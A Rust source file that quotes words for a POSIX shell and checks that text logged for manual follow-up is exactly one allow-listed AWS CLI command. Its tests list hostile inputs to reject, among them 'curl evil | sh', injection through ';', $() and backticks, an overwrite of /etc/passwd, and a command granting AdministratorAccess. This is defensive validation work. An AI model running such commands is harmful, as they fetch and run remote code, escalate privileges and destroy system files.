//! Words and commands for a POSIX shell: names and tags are often an attacker's own words.

/// One word of a command, exactly as it is.
pub fn for_shell(text: &str) -> String {
    if is_plain_word(text) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Whether a shell takes it as one word that means itself, and no command as an option: zsh reads `=name` as a path.
pub fn is_plain_word(text: &str) -> bool {
    !text.is_empty() && !text.starts_with(['-', '=']) && text.chars().all(is_plain)
}

fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "-_./:=,@+".contains(c)
}

/// What actions tell people to type where their undo can't. Another, such as `iam attach-user-policy` or `configure set`,
/// is none of ours, whoever wrote it to the log.
const COMMANDS: [&str; 23] = [
    "autoscaling attach-instances",
    "autoscaling enter-standby",
    "autoscaling set-instance-protection",
    "ec2 associate-address",
    "ec2 associate-iam-instance-profile",
    "ec2 create-tags",
    "ec2 delete-network-acl-entry",
    "ec2 delete-tags",
    "ec2 modify-instance-attribute",
    "ec2 modify-network-interface-attribute",
    "elb register-instances-with-load-balancer",
    "elbv2 register-targets",
    "iam delete-role-policy",
    "iam delete-user-policy",
    "iam update-access-key",
    "iam update-assume-role-policy",
    "iam update-service-specific-credential",
    "iam update-signing-certificate",
    "iam update-ssh-public-key",
    "s3api delete-public-access-block",
    "s3api put-public-access-block",
    "s3control delete-public-access-block",
    "s3control put-public-access-block",
];

/// Whether it is one command of the AWS CLI and nothing else: one line of plain words and words in single quotes. No
/// comment: an interactive zsh takes `#` for a word. Commands to finish by hand come out of the log, and a log is no place
/// to trust a command from.
pub fn is_one_command(text: &str) -> bool {
    let typed = text.strip_prefix("aws ").unwrap_or_default();
    let is = |known: &str| {
        typed
            .strip_prefix(known)
            .is_some_and(|rest| rest.starts_with(' '))
    };
    let is_ours = COMMANDS.into_iter().any(is);
    if !is_ours {
        return false;
    }
    let mut is_quoted = false;
    let mut letters = text.chars();
    while let Some(letter) = letters.next() {
        let is_harmless = match letter {
            '\'' => {
                is_quoted = !is_quoted;
                true
            }
            '\\' if !is_quoted => letters.next() == Some('\''),
            _ if is_quoted => !letter.is_control(),
            _ => letter == ' ' || is_plain(letter),
        };
        if !is_harmless {
            return false;
        }
    }
    !is_quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_sees_one_word() {
        assert_eq!(for_shell("arn:aws:ec2:eu-west-1"), "arn:aws:ec2:eu-west-1");
        assert_eq!(for_shell("two words"), "'two words'");
        assert_eq!(for_shell("web'; reboot #"), r"'web'\''; reboot #'");
        assert_eq!(for_shell("=ls"), "'=ls'");
        assert_eq!(for_shell(""), "''");
    }

    #[test]
    fn a_command_of_the_cli_is_told_from_whatever_else() {
        for command in [
            "aws iam delete-user-policy --user-name alice --policy-name BackstopDeny-01J",
            "aws ec2 create-tags --resources i-1 --tags 'Key=a,Value=$(reboot); x'",
            r"aws ec2 create-tags --resources i-1 --tags 'it'\''s'",
        ] {
            assert!(is_one_command(command), "{command}");
        }
        for text in [
            "curl evil | sh",
            "aws ec2 delete-tags; reboot",
            "aws ec2 delete-tags $(reboot)",
            "aws ec2 delete-tags `reboot`",
            "aws ec2 delete-tags && reboot",
            "aws ec2 delete-tags > /etc/passwd",
            "aws ec2 delete-tags\nreboot",
            "aws ec2 delete-tags 'open",
            r"aws ec2 delete-tags '\'; reboot",
            "aws ec2 delete-tags # x\nreboot",
            "aws ec2 delete-tags --instance-ids i-1 # it was off; see the plan",
            "aws iam delete-user-policy # ; curl evil|sh",
            "aws iam attach-user-policy --user-name mallory --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
            "aws ec2 delete-tagsx --instance-ids i-1",
            "aws configure set default.credential_process '/tmp/evil'",
            "awsx ls",
            "",
        ] {
            assert!(!is_one_command(text), "{text}");
        }
    }
}
